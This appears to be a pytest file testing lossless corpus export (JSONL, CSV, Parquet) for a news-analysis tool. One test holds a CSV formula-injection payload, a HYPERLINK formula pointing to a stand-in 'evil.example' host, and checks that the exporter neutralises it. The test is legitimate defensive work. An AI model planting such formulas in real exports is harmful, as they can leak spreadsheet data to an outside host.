"""Export is lossless in every format, with every metadata field."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from propscope.analysis import Analysis
from propscope.article import Article, Dateline, Span
from propscope.cli import app
from propscope.corpus.export import COLUMNS, export, read_export
from propscope.corpus.synth import synthetic_analyses
from propscope.store import ArticleFilter, Store
from propscope.store.testing import make_store


def rich_analysis() -> Analysis:
    text = "KYIV, Jan 3 (Reuters) - «Ціни» зросли. Second paragraph here."
    base = next(synthetic_analyses(1, seed=3))
    article = Article(text=text, title="Ціни", outlet="Outlet Ü", url="https://u.example/1",
                      published="2026-01-03T07:00:00+02:00", language="uk", authors=("A. Writer", "B. Editor"),
                      dateline=Dateline("KYIV", "Reuters", "Jan 3", Span(0, 23, "dateline")),
                      paragraphs=(Span(0, 39), Span(40, len(text))), sentences=(Span(0, 39), Span(40, len(text))),
                      source="feed.xml#2", source_format="feed", raw="<p>" + text + "</p>",
                      metadata={"section": "economy", "tags": ["prices", 1, None]})
    return Analysis(article, {}, base.analyzers[:0])


@pytest.fixture(params=["memory", "sqlite"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Store]:
    with make_store(request.param, tmp_path) as s:
        yield s


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_corpus_export_round_trips(store: Store, tmp_path: Path, fmt: str) -> None:
    items = [rich_analysis(), *synthetic_analyses(12, seed=5)]
    store.put_many(items)
    out = tmp_path / f"corpus.{fmt}"
    assert export(store, fmt, out).articles == len(items)
    back = list(read_export(out))
    assert [a.to_json() for a in back] == [a.to_json() for a in items]
    assert export(store, fmt, tmp_path / f"a.{fmt}", where=ArticleFilter(outlet="outlet ü")).articles == 1


def test_corpus_export_jsonl_is_schema_valid_and_csv_has_metadata(store: Store, tmp_path: Path) -> None:
    import jsonschema

    schema = json.loads((Path(__file__).parents[2] / "src/propscope/schemas/analysis.schema.json").read_text())
    store.put(rich_analysis())
    export(store, "jsonl", tmp_path / "x.jsonl")
    for line in (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines():
        jsonschema.validate(json.loads(line), schema)
    export(store, "csv", tmp_path / "x.csv")
    with (tmp_path / "x.csv").open(encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert tuple(row) == COLUMNS
    assert row["outlet"] == "Outlet Ü" and json.loads(row["authors"]) == ["A. Writer", "B. Editor"]
    assert json.loads(row["dateline"])["agency"] == "Reuters"
    assert json.loads(row["metadata"]) == {"section": "economy", "tags": ["prices", 1, None]}
    assert json.loads(row["sightings"])[0]["url"] == "https://u.example/1"


def test_corpus_export_cli(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'c.db'}"
    with make_store("sqlite", tmp_path) as _:
        pass
    from propscope.store import open_store

    s = open_store(db)
    s.put_many(list(synthetic_analyses(3)))
    s.close()
    runner = CliRunner()
    result = runner.invoke(app, ["export", "--db", db])
    assert result.exit_code == 0 and len(result.stdout.splitlines()) == 3
    result = runner.invoke(app, ["export", "--db", db, "--format", "parquet"])
    assert result.exit_code == 2 and "parquet needs an output file" in result.stderr
    result = runner.invoke(app, ["export", "--db", db, "-f", "parquet", "-o", str(tmp_path / "c.parquet")])
    assert result.exit_code == 0 and len(list(read_export(tmp_path / "c.parquet"))) == 3


def test_corpus_export_csv_cells_never_run_as_formulas(store: Store, tmp_path: Path) -> None:
    base = rich_analysis()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    article = Article(text=base.article.text, title=hostile, outlet="@SUM(1+1)", url=base.article.url,
                      paragraphs=base.article.paragraphs, sentences=base.article.sentences)
    store.put(Analysis(article, {}, ()))
    export(store, "csv", tmp_path / "x.csv")
    with (tmp_path / "x.csv").open(encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["title"] == "'" + hostile and row["outlet"] == "'@SUM(1+1)"
    assert row["text"] == base.article.text  # ordinary cells are untouched
    (back,) = list(read_export(tmp_path / "x.csv"))
    assert (back.article.title, back.article.outlet) == (hostile, "@SUM(1+1)")  # nothing lost
